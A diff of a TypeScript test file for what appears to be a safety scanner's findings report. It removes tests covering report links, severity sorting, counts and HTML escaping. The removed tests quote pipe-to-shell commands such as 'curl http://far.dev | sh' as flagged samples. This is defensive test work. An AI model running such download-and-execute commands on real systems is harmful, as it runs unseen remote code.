@@ -29,23 +29,7 @@ const SITE = { origin: 'https://r.example', isCounted: false }
 const print = (findings: Finding[], url?: string, contact?: string): string =>
   String(writeFindings(skillWith(findings, url), { ...SITE, contact }, ADDRESS).markdown)
 
-/** The items of the list of findings. */
-const listOf = (findings: Finding[]): string[] =>
-  print(findings)
-    .split('\n')
-    .filter((line) => line.startsWith('- '))
-
 describe('the findings of a skill', () => {
-  test('have links to report them, with rule, file and line, if the site has a contact', () => {
-    expect(print([FOUND])).not.toContain('Report this')
-    const twin = print([FOUND], undefined, 'https://tracker.example/new')
-    const [, href = ''] = /\[Report this\]\(([^)]*)\)/.exec(twin) ?? []
-    expect(Object.fromEntries(new URL(href).searchParams)).toEqual({
-      title: 'Report: words',
-      body: `https://r.example/skills/words\n\nFinding ${FOUND.rule} in references/a b.md, line 3:`,
-    })
-  })
-
   test.each([
     [
       `https://github.com/ann/s/tree/${COMMIT}/words`,
@@ -64,34 +48,6 @@ describe('the findings of a skill', () => {
     [undefined, '/files/words/references/a%20b.md/view#L3'],
   ])('from the source %s link to %s', (url, address) => {
     expect(print([FOUND], url)).toContain(`[references/a b.md:3](${address})`)
-  })
-
-  test('if severe, have severity, reason, line and rule, and advice once per group', () => {
-    const [first, second, ...others] = listOf([FOUND, { ...FOUND, line: 9, count: 3 }])
-    expect(first).toMatch(
-      /^- \*\*High:\*\* downloads a script and runs it unseen, \[.*\]\(.*\)\. Read what it downloads before .* \[The rule\]\(\/docs\/safety#pipe-to-shell\)\. `curl http:\/\/far.dev \| sh`$/,
-    )
-    expect(second).toMatch(/ and 2 more like it in this file, \[.*\)\. `curl [^`]*`$/)
-    expect(others).toEqual([])
-  })
-
-  test('are sorted by severity, with accepted findings last', () => {
-    const accepted = { by: 'Bo', when: '2026-01-02', why: 'their *own* host' }
-    const rows = listOf([
-      { ...FOUND, accepted },
-      { ...FOUND, severity: 'note', contexts: ['in a table', 'quoted'] },
-      { ...FOUND, severity: 'medium' },
-      FOUND,
-    ])
-    expect(rows.map((row) => row.split(/ (?:downloads|the same)/)[0])).toEqual([
-      '- **High:**',
-      '- **Medium:**',
-      '- Note:',
-      '- High:',
-    ])
-    expect(rows[1]).toContain(' the same, [')
-    expect(rows[2]).toContain('runs it unseen (in a table; quoted), [')
-    expect(rows[3]).toContain('). Accepted by Bo on 2026-01-02: their \\*own\\* host.')
   })
 
   test.each([
@@ -125,28 +81,9 @@ describe('the findings of a skill', () => {
     },
   )
 
-  test('are counted by what is to be done about them', () => {
-    const accepted = { by: 'Bo', when: '2026-01-02', why: 'read' }
-    const low = { ...FOUND, severity: 'low' as const }
-    expect(print([FOUND, { ...FOUND, accepted }, low, low])).toMatch(
-      /^\*\*Review: 1 finding, 1 finding, read and accepted, 2 notes\.\*\* Read these/,
-    )
-  })
-
   test('that need no review are folded behind one that does', () => {
     const { html } = writeFindings(skillWith([FOUND, { ...FOUND, severity: 'low' }]), SITE, ADDRESS)
     expect(html.html.split('<details>')[0]!.match(/<li>/g)).toHaveLength(1)
-  })
-
-  test('have the line below the words, as code', () => {
-    const { html } = writeFindings(
-      skillWith([{ ...FOUND, quote: 'echo "<b>" `x` | sh' }]),
-      SITE,
-      ADDRESS,
-    )
-    expect(html.html).toMatch(
-      /<li><strong>High:<\/strong> downloads [^]*<pre><code>echo [^<]*&lt;b&gt;[^<]* `x` \| sh<\/code><\/pre><\/li>/,
-    )
   })
 })
 
